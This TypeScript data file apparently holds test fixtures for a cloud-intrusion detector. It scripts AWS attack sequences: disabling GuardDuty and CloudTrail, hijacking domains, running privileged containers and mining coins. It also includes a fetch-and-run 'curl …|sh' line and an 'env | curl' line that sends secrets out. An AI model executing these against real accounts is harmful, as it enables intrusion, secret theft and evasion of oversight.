import { AGENTS, DATA, HOME, role, STRANGER, user, wrapped, type Intrusion, type Step } from '../step';

const CLI = 'aws-cli/2.33.2 md/awscrt#0.29.1 ua/2.1 os/linux#6.12.38+kali-amd64 md/arch#x86_64 lang/python#3.13.9 md/pyimpl#CPython';
const BOTO = 'Boto3/1.42.3 md/Botocore#1.42.3 ua/2.1 os/linux#6.8.0-88-generic md/arch#x86_64 lang/python#3.12.3 md/pyimpl#CPython Botocore/1.42.3';
const policy = (...statements: object[]): string => JSON.stringify({ Version: '2012-10-17', Statement: statements });
const anybody = (Action: string): string => policy({ Effect: 'Allow', Principal: '*', Action, Resource: '*' });
const sso = (name: string, person: string, agent: string = CLI, from = '203.0.113.221') => role(`AWSReservedSSO_${name}_3f1e2d3c4b5a6978`, `${person}@example.com`, from, agent);
const own = (service: string, rest: string): string => `arn:aws:${service}:us-east-1:${HOME}:${rest}`;

/** The part of the seventh set that is about functions, containers, models, mail, watchmen and what is paid for. */
export const services: readonly Intrusion[] = [
  {
    name: 'models at somebody else’s cost, with the log switched off',
    as: user('chat-app', BOTO, '198.51.100.221'),
    steps: [
      { call: 'bedrock:ListFoundationModels', request: {} },
      { call: 'bedrock:GetModelInvocationLoggingConfiguration' },
      { call: 'bedrock:InvokeModel', request: { modelId: 'anthropic.claude-sonnet-4-5-20250929-v1:0' }, error: 'ValidationException', message: 'max_tokens_to_sample: range: 1..1,000,000', harm: 'a model probed with a call that cannot succeed' },
      { call: 'bedrock:PutUseCaseForModelAccess', request: { formData: 'x' }, harm: 'leave to use models asked for' },
      { call: 'bedrock:CreateFoundationModelAgreement', request: { modelId: 'anthropic.claude-sonnet-4-5-20250929-v1:0', offerToken: 'x' }, harm: 'a contract for a model made' },
      { call: 'bedrock:DeleteModelInvocationLoggingConfiguration', harm: 'the log of what is asked switched off' },
      { call: 'bedrock:ConverseStream', request: { modelId: 'us.anthropic.claude-opus-4-5-20251101-v1:0' }, harm: 'a model used' },
    ],
  },
  {
    name: 'mail by the thousand, first asked for politely',
    as: user('newsletter', AGENTS.cli, '198.51.100.222'),
    steps: [
      { call: 'ses:GetAccount', request: {}, region: 'us-east-1' },
      { call: 'ses:GetSendQuota', region: 'eu-west-1' },
      { call: 'ses:ListIdentities', request: {} },
      { call: 'ses:PutAccountDetails', request: { mailType: 'MARKETING', websiteURL: 'HIDDEN_DUE_TO_SECURITY_REASONS', productionAccessEnabled: true }, harm: 'leave to send to everybody asked for' },
      { call: 'ses:CreateEmailIdentity', request: { emailIdentity: 'managed7.example.net' }, response: { identityType: 'DOMAIN' }, harm: 'a domain of the intruder’s made a sender' },
      { call: 'ses:UpdateAccountSendingEnabled', request: { enabled: true } },
      { call: 'iam:CreateUser', request: { userName: 'ses-smtp-user' } },
      { call: 'iam:AttachUserPolicy', request: { userName: 'ses-smtp-user', policyArn: 'arn:aws:iam::aws:policy/AmazonSESFullAccess' }, harm: 'all of mail allowed to a new user' },
      { call: 'support:CreateCase', request: { subject: 'HIDDEN_DUE_TO_SECURITY_REASONS', serviceCode: 'service-limit-increase' } },
    ],
  },
  {
    name: 'messages to telephones at somebody else’s cost',
    as: user('alerts', CLI, '198.51.100.223'),
    steps: [
      { call: 'sns:GetSMSAttributes', request: {} },
      { call: 'sns:GetSMSSandboxAccountStatus', request: {} },
      { call: 'sns:SetSMSAttributes', request: { attributes: { MonthlySpendLimit: '1000', DefaultSMSType: 'Transactional' } }, harm: 'the limit of what may be spent raised' },
      { call: 'sms-voice:RequestPhoneNumber', request: { isoCountryCode: 'US', messageType: 'PROMOTIONAL', numberCapabilities: ['SMS'], numberType: 'TOLL_FREE' }, harm: 'a number to send from bought' },
      { call: 'sms-voice:SetTextMessageSpendLimitOverride', request: { monthlyLimit: 100000 }, harm: 'the limit of what may be spent raised again' },
    ],
  },
  {
    name: 'functions with a back door, from a session of a role',
    as: sso('PowerUser', 'eli'),
    steps: [
      { call: 'lambda:ListFunctions20150331' },
      { call: 'lambda:GetFunction20150331v2', request: { functionName: 'checkout' } },
      { call: 'lambda:CreateFunctionUrlConfig', request: { functionName: 'checkout', authType: 'NONE' }, harm: 'a function with an address for everybody' },
      { call: 'lambda:AddPermission20150331v2', request: { functionName: 'checkout', statementId: 'x', action: 'lambda:InvokeFunction', principal: STRANGER }, harm: 'a function opened to a strange account' },
      { call: 'lambda:UpdateFunctionConfiguration20150331v2', request: { functionName: 'checkout', layers: [`arn:aws:lambda:us-east-1:${STRANGER}:layer:x:1`], environment: {} }, harm: 'code of a strange account put under a function' },
      { call: 'lambda:AddLayerVersionPermission20181031', request: { layerName: 'shared', versionNumber: 3, statementId: 'x', action: 'lambda:GetLayerVersion', principal: '*' }, harm: 'code of the company shown to everybody' },
      { call: 'events:PutRule', request: { name: 'on-new-user', eventPattern: '{"source":["aws.iam"],"detail":{"eventName":["CreateUser","CreateRole"]}}' } },
      { call: 'lambda:PutFunctionConcurrency20171031', request: { functionName: 'fraud-check', reservedConcurrentExecutions: 0 }, harm: 'a function that cannot run any more' },
      { call: 'lambda:DeleteFunctionCodeSigningConfig', request: { functionName: 'checkout' }, harm: 'code without a signature taken' },
    ],
  },
  {
    name: 'a cluster whose masters are exchanged',
    as: sso('PowerUser', 'flo'),
    steps: [
      { call: 'eks:ListClusters', request: {} },
      { call: 'eks:CreateAccessEntry', request: { name: 'prod', principalArn: `arn:aws:iam::${HOME}:role/Developer`, type: 'STANDARD' }, harm: 'somebody let into a cluster' },
      { call: 'eks:AssociateAccessPolicy', request: { name: 'prod', principalArn: `arn:aws:iam::${HOME}:role/Developer`, policyArn: 'arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy', accessScope: { type: 'cluster' } }, harm: 'somebody made master of a cluster' },
      { call: 'eks:UpdateClusterConfig', request: { name: 'prod', logging: { clusterLogging: [{ types: ['audit', 'authenticator'], enabled: false }] } }, harm: 'the log of a cluster switched off' },
      { call: 'eks:CreatePodIdentityAssociation', request: { clusterName: 'prod', namespace: 'default', serviceAccount: 'default', roleArn: `arn:aws:iam::${HOME}:role/Admin` }, harm: 'the strongest role given to all pods of a namespace' },
      { call: 'eks:AssociateIdentityProviderConfig', request: { name: 'prod', oidc: { identityProviderConfigName: 'x', issuerUrl: 'https://id.example.net', clientId: 'x' } }, harm: 'people of a strange provider let into a cluster' },
    ],
  },
  {
    name: 'images swapped where they are kept',
    as: role('gitlab-deploy', 'job-12', '198.51.100.224', CLI),
    steps: [
      { call: 'ecr:GetAuthorizationToken', request: {} },
      { call: 'ecr:PutImageTagMutability', request: { repositoryName: 'shop', imageTagMutability: 'MUTABLE' }, harm: 'tags of images may be moved' },
      { call: 'ecr:PutImage', request: { repositoryName: 'shop', imageTag: 'latest', imageManifest: '{}' } },
      { call: 'ecr:SetRepositoryPolicy', request: { repositoryName: 'shop', policyText: anybody('ecr:*'), force: false }, harm: 'images opened to everybody' },
      { call: 'ecr:PutReplicationConfiguration', request: { replicationConfiguration: { rules: [{ destinations: [{ region: 'us-east-1', registryId: STRANGER }] }] } }, harm: 'images copied to a strange account' },
      { call: 'ecr:PutRegistryScanningConfiguration', request: { scanType: 'BASIC', rules: [] } },
      { call: 'ecr:DeleteRepository', request: { repositoryName: 'shop', force: true }, harm: 'a repository deleted with its images' },
    ],
  },
  {
    name: 'containers that reach the machine below',
    as: role('ecs-deploy', 'cli', '198.51.100.225', BOTO),
    steps: [
      { call: 'ecs:ListClusters', request: {} },
      { call: 'ecs:RegisterTaskDefinition', request: { family: 'x', networkMode: 'host', pidMode: 'host', volumes: [{ name: 'root', host: { sourcePath: '/' } }], containerDefinitions: [{ name: 'x', image: 'alpine:3', privileged: true, mountPoints: [{ sourceVolume: 'root', containerPath: '/host' }] }] }, harm: 'a container that sees all of its machine' },
      { call: 'ecs:RunTask', request: { cluster: 'prod', taskDefinition: 'x', launchType: 'EC2', overrides: { taskRoleArn: `arn:aws:iam::${HOME}:role/Admin`, containerOverrides: [{ name: 'x', command: ['sh', '-c', 'curl http://198.51.100.225/x|sh'] }] } }, harm: 'a container with a stronger role that fetches its orders' },
      { call: 'ecs:UpdateService', request: { cluster: 'prod', service: 'shop', enableExecuteCommand: true, forceNewDeployment: true } },
      { call: 'ecs:ExecuteCommand', request: { cluster: 'prod', task: 'aa11', container: 'shop', command: '/bin/sh', interactive: true }, response: { session: { sessionId: 'x' } } },
    ],
  },
  {
    name: 'watchmen sent home at once',
    as: sso('SecurityAdmin', 'gil'),
    steps: [
      { call: 'guardduty:ListDetectors', request: {} },
      { call: 'guardduty:DeleteDetector', request: { detectorId: '12abc34d567e8fa901bc2d34e56789f0' }, harm: 'GuardDuty switched off' },
      { call: 'securityhub:DisableSecurityHub', harm: 'Security Hub switched off' },
      { call: 'config:DeleteConfigurationRecorder', request: { configurationRecorderName: 'default' }, harm: 'the record of settings deleted' },
      { call: 'macie2:DisableMacie', harm: 'the watch over buckets switched off' },
      { call: 'inspector2:Disable', request: { accountIds: [HOME], resourceTypes: ['EC2', 'ECR', 'LAMBDA'] }, harm: 'the search for holes switched off' },
      { call: 'access-analyzer:DeleteAnalyzer', request: { analyzerName: 'org' }, harm: 'the search for what is open switched off' },
      { call: 'detective:DeleteGraph', request: { graphArn: own('detective', 'graph:aa11') }, harm: 'what is known of connections deleted' },
      { call: 'securitylake:DeleteDataLake', request: { regions: ['us-east-1'] }, harm: 'the lake of logs deleted' },
      { call: 'monitoring:DisableAlarmActions', request: { alarmNames: ['root-login', 'unauthorized-calls'] }, harm: 'alarms that tell nobody' },
    ],
  },
  {
    name: 'the trail and its bucket made to forget',
    as: sso('Admin', 'hugo'),
    steps: [
      { call: 'cloudtrail:DescribeTrails', request: {} },
      { call: 'cloudtrail:PutEventSelectors', request: { trailName: 'main', eventSelectors: [{ readWriteType: 'ReadOnly', includeManagementEvents: true, dataResources: [], excludeManagementEventSources: ['kms.amazonaws.com'] }] }, harm: 'changes recorded no more' },
      { call: 's3:PutBucketLifecycle', request: { bucketName: 'acme-cloudtrail-logs', LifecycleConfiguration: { Rule: { ID: 'x', Status: 'Enabled', Filter: { Prefix: 'AWSLogs/' }, Expiration: { Days: 1 } } } }, harm: 'records set to be deleted after a day' },
      { call: 'logs:DeleteLogGroup', request: { logGroupName: 'CloudTrail/DefaultLogGroup' }, harm: 'the group of records deleted' },
      { call: 'logs:PutRetentionPolicy', request: { logGroupName: '/aws/vpc/flow', retentionInDays: 1 }, harm: 'logs kept for a day' },
      { call: 'cloudtrail:DeleteEventDataStore', request: { eventDataStore: own('cloudtrail', 'eventdatastore/aa11') }, harm: 'a store of events deleted' },
      { call: 'events:RemoveTargets', request: { rule: 'guardduty-to-soc', ids: ['1'] }, harm: 'findings told to nobody' },
      { call: 'cloudtrail:StopLogging', request: { name: 'main' }, harm: 'the trail stopped' },
    ],
  },
  {
    name: 'names led elsewhere',
    as: sso('Marketing', 'ines', AGENTS.browser),
    steps: [
      { call: 'route53:ListHostedZones', request: {} },
      { call: 'route53:ChangeResourceRecordSets', request: { hostedZoneId: 'Z0D1', changeBatch: { changes: [{ action: 'UPSERT', resourceRecordSet: { name: 'login.acme.example', type: 'A', tTL: 60, resourceRecords: [{ value: '198.51.100.226' }] } }] } } },
      { call: 'route53:DisableHostedZoneDNSSEC', request: { hostedZoneId: 'Z0D1' }, harm: 'names signed no more' },
      { call: 'route53domains:DisableDomainTransferLock', request: { domainName: 'acme.example' }, harm: 'a domain that may be carried off' },
      { call: 'route53domains:RetrieveDomainAuthCode', request: { domainName: 'acme.example' }, harm: 'the code that carries it off read' },
      { call: 'route53domains:TransferDomainToAnotherAwsAccount', request: { domainName: 'acme.example', accountId: STRANGER }, harm: 'a domain given to a strange account' },
      { call: 'route53:DeleteHostedZone', request: { id: 'Z0D1' }, harm: 'all names of a zone gone' },
    ],
  },
  {
    name: 'a shop whose walls come down',
    as: role('web-admin', 'jon@example.com', '203.0.113.227', CLI),
    steps: [
      { call: 'wafv2:DisassociateWebACL', request: { resourceArn: own('elasticloadbalancing', 'loadbalancer/app/shop/aa11') }, harm: 'the wall before the shop taken away' },
      { call: 'wafv2:DeleteLoggingConfiguration', request: { resourceArn: own('wafv2', 'regional/webacl/shop/aa11') }, harm: 'the log of the wall switched off' },
      { call: 'shield:DeleteProtection', request: { protectionId: 'aa11' }, harm: 'the shield against floods taken away' },
      { call: 'acm:ExportCertificate', request: { certificateArn: own('acm', 'certificate/aa11') }, harm: 'a certificate left with its key' },
      { call: 'cloudfront:UpdateDistribution2020_05_31', request: { id: 'E1', distributionConfig: { origins: { quantity: 1, items: [{ id: 'x', domainName: 'cdn.example.net' }] }, webACLId: '' } }, harm: 'visitors served from another server' },
      { call: 'elasticloadbalancing:DeleteLoadBalancer', request: { loadBalancerArn: own('elasticloadbalancing', 'loadbalancer/app/shop/aa11') }, harm: 'the way into the shop deleted' },
    ],
  },
  {
    name: 'miners where nobody looks for them',
    as: user('amplify-ci', AGENTS.cli, '198.51.100.228'),
    steps: [
      { call: 'iam:CreateRole', request: { roleName: 'AWSCodeCommit-Role', assumeRolePolicyDocument: policy({ Effect: 'Allow', Principal: { Service: 'amplify.amazonaws.com' }, Action: 'sts:AssumeRole' }) } },
      { call: 'codecommit:CreateRepository', request: { repositoryName: 'test' } },
      { call: 'amplify:CreateApp', request: { name: 'app-1', repository: 'https://git-codecommit.us-east-1.amazonaws.com/v1/repos/test', buildSpec: 'HIDDEN_DUE_TO_SECURITY_REASONS', enableBranchAutoBuild: true }, harm: 'an application whose build digs coins' },
      { call: 'sagemaker:CreateNotebookInstance', request: { notebookInstanceName: 'x', instanceType: 'ml.p3.16xlarge', roleArn: `arn:aws:iam::${HOME}:role/sugo`, lifecycleConfigName: 'x' }, region: 'ap-south-1', harm: 'a notebook on a dear machine' },
      { call: 'imagebuilder:CreateImagePipeline', request: { name: 'x', schedule: { scheduleExpression: 'rate(1 day)' }, infrastructureConfigurationArn: own('imagebuilder', 'infrastructure-configuration/x') } },
      { call: 'glue:CreateDevEndpoint', request: { endpointName: 'x', roleArn: `arn:aws:iam::${HOME}:role/glue-admin`, publicKey: 'ssh-rsa AAAA', numberOfNodes: 5 }, harm: 'a machine with a role, entered with a key of the intruder’s' },
      { call: 'batch:CreateComputeEnvironment', request: { computeEnvironmentName: 'x', type: 'MANAGED', computeResources: { type: 'EC2', minvCpus: 0, maxvCpus: 10000, instanceTypes: ['p4d.24xlarge'] } }, harm: 'ten thousand processors for jobs' },
    ],
  },
  {
    name: 'builds that tell their secrets',
    as: role('Developer', 'kai@example.com', '203.0.113.229', CLI),
    steps: [
      { call: 'codebuild:ListProjects', request: {} },
      { call: 'codebuild:StartBuild', request: { projectName: 'release', buildspecOverride: 'version: 0.2\nphases: {build: {commands: ["env | curl -d @- http://198.51.100.229"]}}', environmentTypeOverride: 'LINUX_CONTAINER' }, harm: 'a build with other orders' },
      { call: 'codebuild:UpdateProject', request: { name: 'release', source: { type: 'GITHUB', location: 'https://github.com/stranger/x' }, serviceRole: `arn:aws:iam::${HOME}:role/release` }, harm: 'a build from the code of a stranger' },
      { call: 'codebuild:UpdateProjectVisibility', request: { projectArn: own('codebuild', 'project/release'), projectVisibility: 'PUBLIC_READ', resourceAccessRole: `arn:aws:iam::${HOME}:role/release` }, harm: 'what a build says shown to everybody' },
      { call: 'codebuild:ImportSourceCredentials', request: { token: 'HIDDEN_DUE_TO_SECURITY_REASONS', serverType: 'GITHUB', authType: 'PERSONAL_ACCESS_TOKEN' } },
      { call: 'sagemaker:CreatePresignedNotebookInstanceUrl', request: { notebookInstanceName: 'research' }, harm: 'a way into the notebook of somebody else' },
    ],
  },
  {
    name: 'capacity bought, and those who count the money sent away',
    as: sso('Billing', 'liv', BOTO),
    steps: [
      { call: 'budgets:DeleteBudget', request: { accountId: HOME, budgetName: 'monthly' }, harm: 'the limit of what may be spent deleted' },
      { call: 'ce:DeleteAnomalyMonitor', request: { monitorArn: `arn:aws:ce::${HOME}:anomalymonitor/aa11` }, harm: 'the watch over costs switched off' },
      { call: 'savingsplans:CreateSavingsPlan', request: { savingsPlanOfferingId: 'aa11', commitment: '500' }, harm: 'three years of machines bought' },
      { call: 'ec2:PurchaseReservedInstancesOffering', request: { reservedInstancesOfferingId: 'aa11', instanceCount: 50, limitPrice: {} }, harm: 'machines bought in advance' },
      { call: 'servicequotas:RequestServiceQuotaIncrease', request: { serviceCode: 'ec2', quotaCode: 'L-417A185B', desiredValue: 5000 }, harm: 'a higher limit for GPUs asked for' },
      wrapped('PurchaseCapacityBlock', { CapacityBlockOfferingId: 'cb-0d1', InstancePlatform: 'Linux/UNIX' }, { harm: 'a block of GPUs bought' }),
    ],
  },
  {
    name: 'a key that opens nothing, tried on everything',
    as: user('old-ci', 'Boto3/1.42.3 md/Botocore#1.42.3 ua/2.1 os/linux lang/python#3.12 Botocore/1.42.3', '198.51.100.230'),
    steps: [
      { call: 'sts:GetCallerIdentity' },
      ...['iam:ListUsers', 'iam:ListRoles', 'iam:GetAccountAuthorizationDetails', 's3:ListBuckets', 'ec2:DescribeInstances', 'lambda:ListFunctions20150331', 'rds:DescribeDBInstances', 'secretsmanager:ListSecrets', 'ssm:DescribeParameters', 'dynamodb:ListTables', 'kms:ListKeys', 'cloudtrail:DescribeTrails', 'guardduty:ListDetectors', 'ses:GetSendQuota', 'bedrock:ListFoundationModels', 'eks:ListClusters'].map((call, n): Step => ({ call: call as Step['call'], request: {}, error: call.startsWith('ec2') ? 'Client.UnauthorizedOperation' : 'AccessDenied', message: 'User is not authorized', after: 1, ...(n === 15 ? { harm: 'everything tried that a key may open' } : {}) })),
      { call: 's3:GetObject', request: { bucketName: 'acme-public-assets', key: '.env', Host: 'acme-public-assets.s3.us-east-1.amazonaws.com' }, error: 'AccessDenied', more: DATA },
    ],
  },
];
